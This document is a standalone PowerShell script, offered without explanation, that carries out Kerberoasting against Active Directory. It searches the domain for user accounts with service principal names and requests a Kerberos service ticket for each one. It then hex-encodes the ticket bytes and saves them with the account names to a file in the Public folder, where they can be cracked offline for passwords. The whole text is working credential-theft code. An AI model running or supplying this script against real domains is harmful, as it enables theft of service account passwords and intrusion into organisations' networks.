$searcher = New-Object System.DirectoryServices.DirectorySearcher([ADSI]'')
$searcher.Filter = '(&(samAccountType=805306368)(servicePrincipalName=*)(!samAccountName=krbtgt))'
$searcher.PageSize = 1000
$null = $searcher.PropertiesToLoad.Add('samaccountname')
$null = $searcher.PropertiesToLoad.Add('serviceprincipalname')

Add-Type -AssemblyName System.IdentityModel
$hashes = foreach ($r in $searcher.FindAll()) {
    $spn = $r.Properties['serviceprincipalname'][0]
    $ticket = New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $spn
    $bytes = $ticket.GetRequest()
    [pscustomobject]@{
        Account = $r.Properties['samaccountname'][0]
        Spn     = $spn
        Ticket  = [BitConverter]::ToString($bytes) -replace '-'
    }
}
$hashes | Out-File -FilePath "$env:PUBLIC\spn.txt"
